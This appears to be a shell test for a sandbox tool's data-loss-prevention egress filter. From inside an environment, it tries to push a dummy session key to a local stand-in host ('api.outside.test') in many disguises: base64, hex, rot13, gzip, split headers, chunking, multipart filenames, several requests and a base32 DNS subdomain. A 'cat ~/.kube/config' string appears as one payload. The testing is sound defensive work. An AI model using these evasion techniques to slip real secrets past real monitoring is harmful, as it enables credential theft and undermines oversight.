#!/bin/bash
# What must not leave: a secret that the blueprint marks, in many clothes and pieces; rules of the blueprint, of its gitleaks.toml and of the
# organisation; what each action does on the wire; and what the ledger says of it. The host outside is a server of ours that writes down what it
# gets. Items of the list of attacks: 31, 40 to 43, 45, 48, 49, 52.
# shellcheck source=tests/scenarios/tap.sh
. "${SOURCE_ROOT:?}/tests/scenarios/tap.sh"
# shellcheck source=tests/scenarios/serve.sh
. "$SOURCE_ROOT/tests/scenarios/serve.sh"
[ "$(id -u)" = 0 ] || skip_all 'needs root: a name of the machine for the server outside'
[ -x /usr/bin/python3 ] || skip_all 'needs python3'

if [ -z "${DLP_INSIDE:-}" ]; then
	DLP_INSIDE=1 exec unshare --mount --propagation private "$0"
fi
address=127.63.$((RANDOM % 250 + 1)).$((RANDOM % 250 + 1))
printf '127.0.0.1 localhost\n%s api.outside.test a.wild.test\n' "$address" >"$WORK/hosts"
mount --bind "$WORK/hosts" /etc/hosts
at_end umount /etc/hosts
export ASSAY_REACH=$address

cat >"$WORK/outside.py" <<'SERVER'
import http.server, sys
address, log = sys.argv[1:]
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_POST(self):
        body = b""
        if self.headers.get("transfer-encoding"):
            while size := int(self.rfile.readline(), 16):
                body += self.rfile.read(size)
                self.rfile.readline()
            while line := self.rfile.readline().strip():
                body += b"|" + line
        else:
            body = self.rfile.read(int(self.headers.get("content-length", 0)))
        with open(log, "ab") as out:
            out.write(b"%s %s %s\n" % (self.headers["host"].encode(), self.path.encode(), body.replace(b"\n", b" ")))
        self.send_response(200)
        self.send_header("content-length", "0")
        self.end_headers()
    do_GET = do_POST
    def log_message(self, *arguments):
        pass
server = http.server.ThreadingHTTPServer((address, 80), Handler)
print("listens", flush=True)
server.serve_forever()
SERVER
: >"$WORK/outside.log"
/usr/bin/python3 "$WORK/outside.py" "$address" "$WORK/outside.log" >"$WORK/outside.out" 2>&1 &
outside=$!
at_end "kill $outside 2>/dev/null"
outside_listens() { grep -q listens "$WORK/outside.out"; }
until_true 60 outside_listens || { cat "$WORK/outside.out"; skip_all 'port 80 cannot be had'; }

mkdir "$WORK/app"
cat >"$WORK/app/assay.yaml" <<'BLUEPRINT'
version: 1
name: dlp
services:
  web: {run: "sleep 100000", env: {SESSION_KEY: Zk8vQ2pLw7rTn5Yc1BxMd3GaHs6Jf0Kp}}
egress:
  rules:
    - {host: api.outside.test, action: allow}
    - {host: "*.wild.test", action: allow}
  dlp:
    secrets: [SESSION_KEY]
    gitleaks: rules/gitleaks.toml
    allow: ['^acme_0000']
    rules:
      - {id: acme-token, pattern: '\b(acme_[a-z0-9]{16})\b', title: a token of acme}
      - {id: acme-ask, pattern: '\b(ask_[a-z0-9]{16})\b', action: hold}
      - {id: acme-mask, pattern: '\b(mask_[a-z0-9]{16})\b', action: redact}
      - {id: acme-note, pattern: '\b(note_[a-z0-9]{16})\b', action: log}
      - {id: acme-path, pattern: '\b(path_[a-z0-9]{16})\b', paths: [/v1/**]}
      - {id: file-*, action: off}
BLUEPRINT
mkdir "$WORK/app/rules"
cat >"$WORK/app/rules/gitleaks.toml" <<'TOML'
[[rules]]
id = "leaky-key"
description = "A key of leaky"
regex = '''leaky_([a-z0-9]{16})'''
TOML
mkdir -p "$ASSAY_STATE"
cat >"$ASSAY_STATE/policy.yaml" <<'POLICY'
dlp:
  rules:
    - {id: org-token, pattern: '\b(org_[a-z0-9]{16})\b', title: a token of the organisation}
POLICY
repository "$WORK/app"
cd "$WORK/app" || exit 1
like 'the blueprint is good' "$("$ASSAY" check 2>&1)" 'is good'
serve_start || { tap_line 'not ok' 'the server starts'; sed 's/^/# /' "$WORK/serve.log"; exit 1; }
"$ASSAY" env up --name dlp >"$WORK/up.log" 2>&1 || { tap_line 'not ok' 'an environment comes up'; sed 's/^/# /' "$WORK/up.log"; exit 1; }
env=$(api GET /environments | jq -r '.items[] | select(.name == "dlp") | .id')
inside() { "$ASSAY" env exec "$env" -- sh -c "$1" 2>&1; }

# One name for each request; prints "<name> <status>".
cat >"$WORK/send.py" <<'CLIENT'
import base64, codecs, gzip, json, os, socket, sys, time, urllib.parse
key = os.environ["SESSION_KEY"]
def say(name, pieces, pause=0):
    connection = socket.create_connection(("api.outside.test", 80), timeout=20)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    try:
        for piece in pieces:
            connection.sendall(piece)
            time.sleep(pause)
        answer = connection.recv(65536)
    except OSError:
        answer = b"- reset"
    print(name, (answer.split(b" ") + [b"closed"])[1].decode()[:5])
def head(path="/", more="", method="POST"):
    return f"{method} {path} HTTP/1.1\r\nHost: api.outside.test\r\nConnection: close\r\n{more}\r\n".encode()
def post(name, body, more="", path="/"):
    body = body if isinstance(body, bytes) else body.encode()
    say(name, [head(path, f"Content-Length: {len(body)}\r\n{more}") + body])
def chunks(name, pieces, trailer=b""):
    # At once: of a body of unknown length that pauses, what has come goes on, and a busy machine would make the pause.
    body = b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in pieces)
    say(name, [head("/", "Transfer-Encoding: chunked\r\n") + body + b"0\r\n" + trailer + b"\r\n"])
def several():
    for i in range(0, len(key), 4):
        post(f"several{i}", json.dumps({"part": i, "text": "x" + key[i:i + 12]}))
cases = {
    "clean": lambda: post("clean", "nothing of interest"),
    "plain": lambda: post("plain", "k=" + key),
    "base64": lambda: post("base64", "k=" + base64.b64encode(b"xx" + key.encode()).decode()),
    "hex": lambda: post("hex", key.encode().hex()),
    "reversed": lambda: post("reversed", key[::-1]),
    "rot13": lambda: post("rot13", codecs.encode(key, "rot13")),
    "url": lambda: post("url", "".join(f"%{ord(c):02x}" for c in key)),
    "unicode": lambda: post("unicode", "".join(f"\\u{ord(c):04x}" for c in key)),
    "gzip": lambda: post("gzip", gzip.compress(key.encode()), "Content-Encoding: gzip\r\n"),
    "unlabelled": lambda: post("unlabelled", gzip.compress(key.encode())),
    "unknown": lambda: post("unknown", key[:4], "Content-Encoding: exi\r\n"),
    "path": lambda: say("path", [head(f"/x/{key}", method="GET")]),
    "query": lambda: say("query", [head(f"/x?a={key[:16]}&b={key[16:]}", method="GET")]),
    "field": lambda: say("field", [head("/", f"X-One: {key}\r\n", "GET")]),
    "fields": lambda: say("fields", [head("/", f"X-One: {key[:20]}\r\nX-Two: {key[20:]}\r\n", "GET")]),
    "cookie": lambda: say("cookie", [head("/", f"Cookie: a={key[:20]}; b={key[20:]}\r\n", "GET")]),
    "chunks": lambda: chunks("chunks", [bytes([c]) for c in key.encode()]),
    "segments": lambda: say("segments", [head("/", f"Content-Length: {len(key)}\r\n")] + [bytes([c]) for c in key.encode()], 0.001),
    "strings": lambda: post("strings", json.dumps({"a": [key[:11], key[11:22], key[22:]]})),
    "parts": lambda: post("parts", "--b\r\nContent-Disposition: form-data; name=a\r\n\r\n" + key[:16] + "\r\n--b\r\nContent-Disposition: form-data; name=b\r\n\r\n" + key[16:] + "\r\n--b--\r\n", "Content-Type: multipart/form-data; boundary=b\r\n"),
    "filename": lambda: post("filename", f'--b\r\nContent-Disposition: form-data; name=a; filename="{key}"\r\n\r\nx\r\n--b--\r\n', "Content-Type: multipart/form-data; boundary=b\r\n"),
    "trailer": lambda: chunks("trailer", [b"x"], b"X-Sum: " + key.encode() + b"\r\n"),
    "late": lambda: chunks("late", [b"a" * 65536] * 80 + [key.encode()]),
    "several": several,
    "own": lambda: post("own", "acme_q1w2e3r4t5y6u7i8"),
    "allowed": lambda: post("allowed", "acme_0000e3r4t5y6u7i8"),
    "leaky": lambda: post("leaky", "leaky_q1w2e3r4t5y6u7i8"),
    "org": lambda: post("org", "org_q1w2e3r4t5y6u7i8"),
    "off": lambda: post("off", "cat ~/.kube/config "),
    "elsewhere": lambda: post("elsewhere", "path_q1w2e3r4t5y6u7i8", path="/v2/x"),
    "here": lambda: post("here", "path_q1w2e3r4t5y6u7i8", path="/v1/x/y"),
    "note": lambda: post("note", "note_q1w2e3r4t5y6u7i8"),
    "notepath": lambda: say("notepath", [head("/x/note_q1w2e3r4t5y6u7i8", method="GET")]),
    "mask": lambda: post("mask", "<mask_q1w2e3r4t5y6u7i8>"),
    "maskchunks": lambda: chunks("maskchunks", [b"<mask_q1w2", b"e3r4t5y6u7i8>"]),
    "masklate": lambda: chunks("masklate", [b"a" * 65536] * 80 + [b" mask_q1w2e3", b"r4t5y6u7i8 "]),
    "maskfield": lambda: say("maskfield", [head("/", "X-One: mask_q1w2e3r4t5y6u7i8\r\n", "GET")]),
    "ask": lambda: post("ask", "ask_q1w2e3r4t5y6u7i8"),
}
for name in sys.argv[1:]:
    cases[name]()
CLIENT
send() { "$ASSAY" env exec --in web "$env" -- /usr/bin/python3 -c "$(cat "$WORK/send.py")" "$@" 2>&1; }

is 'what carries nothing goes' "$(send clean)" 'clean 200'
: >"$WORK/outside.log"
clothes='plain base64 hex reversed rot13 url unicode gzip unlabelled unknown path query field fields cookie chunks segments strings parts filename trailer'
# shellcheck disable=SC2086
said=$(send $clothes)
for name in $clothes; do
	like "a known secret is refused: $name" "$(grep "^$name " <<<"$said")" '^[a-z0-9]+ (403|- rese|reset|close)'
done
is 'and nothing of all that came out' "$(cat "$WORK/outside.log")" ''
send late >/dev/null
is 'nor the secret at the end of a long body' "$(grep -c Zk8vQ2pLw "$WORK/outside.log")" 0
: >"$WORK/outside.log"
like 'item 49: pieces over several requests are refused before they are enough' "$(send several)" 'several[0-9]+ 403'

is 'a rule of the blueprint' "$(send own)" 'own 403'
is 'but for values that it allows' "$(send allowed)" 'allowed 200'
is 'a rule of its gitleaks.toml' "$(send leaky)" 'leaky 403'
is 'a rule of the organisation' "$(send org)" 'org 403'
is 'a rule of ours that it switched off' "$(send off)" 'off 200'
is 'a rule for some paths is for no others' "$(send elsewhere here)" $'elsewhere 200\nhere 403'
: >"$WORK/outside.log"
is 'what is redacted goes' "$(send mask maskchunks)" $'mask 200\nmaskchunks 200'
is 'overwritten, in as many bytes' "$(cut -d' ' -f3 "$WORK/outside.log" | tr '\n' ' ')" "<*********************> <*********************> "
: >"$WORK/outside.log"
like 'late in a long body, too' "$(send masklate) $(grep -c 'mask_' "$WORK/outside.log") $(grep -c 'a \*\*\*\*\*\*\*\*\*\*\*\*\*\*\*\*\*\*\*\*\* ' "$WORK/outside.log")" 'masklate 200 0 1'
is 'where it cannot be overwritten, it is refused' "$(send maskfield)" 'maskfield 403'
is 'what is only noted goes' "$(send note notepath)" $'note 200\nnotepath 200'

: >"$WORK/outside.log"
send ask >"$WORK/ask.out" &
asked() { "$ASSAY" holds --json 2>/dev/null | jq -e '.items[] | select(.status == "open" and (.rule | startswith("dlp:acme-ask")))' >"$WORK/hold.json"; }
ok 'what is to be held waits for a person' until_true 60 asked
is 'whose answer is for this once' "$(jq .remember "$WORK/hold.json")" false
"$ASSAY" approve "$(jq -r .id "$WORK/hold.json")" >/dev/null 2>&1
wait $!
is 'and goes when it is approved' "$(cat "$WORK/ask.out") $(wc -l <"$WORK/outside.log")" 'ask 200 1'

long=$(printf 'Zk8vQ2pLw7rTn5Yc1BxMd3GaHs6Jf0Kp' | base32 | tr -d = | tr '[:upper:]' '[:lower:]')
is 'item 52: a name that carries data is not resolved, where a wildcard is all that allows it' \
	"$(inside "/usr/bin/python3 -c 'import socket; socket.gethostbyname(\"a.wild.test\"); print(\"yes\")'; /usr/bin/python3 -c 'import socket; socket.gethostbyname(\"$long.wild.test\")' >/dev/null 2>&1 && echo leaks")" yes

# The ledger.
rows() { "$ASSAY" ledger search --env "$env" --kind finding --json | jq -c .items; }
noted() { [ "$(rows | jq '[.[] | select(.rule == "dlp:acme-note")] | length')" = 2 ]; }
ok 'findings are in the ledger, those that are only noted too' until_true 60 noted
like 'with their place' "$(rows | jq -r '.[] | select(.rule == "dlp:acme-note") | .detail')" 'log: in its body, plain'
is 'and their value nowhere in it' "$(grep -rlaE 'Zk8vQ2pLw7|note_q1w2e3r4|mask_q1w2e3r4|acme_q1w2e3r4' "$ASSAY_STATE/ledger" | wc -l)" 0

sed -i 's/org_/other_/' "$ASSAY_STATE/policy.yaml"
"$ASSAY" policy reload >/dev/null 2>&1
is "the organisation's rules change at once" "$(send org)" 'org 200'
printf 'dlp: {rules: [{id: bad, pattern: "(x"}]}\n' >"$ASSAY_STATE/policy.yaml"
like 'wrong ones are refused, with their line' "$("$ASSAY" policy reload 2>&1)" '1:1[0-9]: dlp: DLP rule bad'
is 'and those before stay' "$(send org own)" $'org 200\nown 403'

done_testing
